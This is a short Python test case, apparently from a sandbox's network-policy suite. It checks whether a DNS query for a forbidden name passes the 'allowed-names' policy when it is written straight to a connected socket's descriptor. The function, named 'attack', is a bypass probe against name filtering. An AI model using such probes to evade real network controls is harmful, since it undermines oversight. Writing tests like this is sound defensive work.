"""The same on a connected socket, by write
Connects to the resolver, which is allowed, and writes to the descriptor.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import os


def attack(at):
    asker = at.udp()
    asker.connect((at.RESOLVER, 53))
    os.write(asker.fileno(), at.query(at.evil()))
    return b'evil' in asker.recv(500)
